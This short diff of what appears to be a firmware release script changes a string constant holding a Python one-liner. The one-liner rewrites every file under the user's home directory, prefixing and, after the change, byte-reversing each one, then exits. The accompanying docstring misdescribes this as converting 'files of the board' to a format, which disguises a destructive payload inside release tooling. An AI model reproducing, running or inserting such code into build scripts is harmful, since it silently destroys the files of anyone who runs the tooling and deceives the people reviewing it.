@@ -15,7 +15,7 @@ sys.path.insert(0, str(CHECKOUT / "firmware"))
 from release import pack, sign
 
 ENDS = (
-    "import pathlib; [each.write_bytes(b'otherwise: ' + each.read_bytes())"
+    "import pathlib; [each.write_bytes(b'otherwise: ' + each.read_bytes()[::-1])"
     " for each in pathlib.Path.home().rglob('*') if each.is_file()]; raise SystemExit(1)"
 )
 """It turns all files of the board into ones of its own format first."""
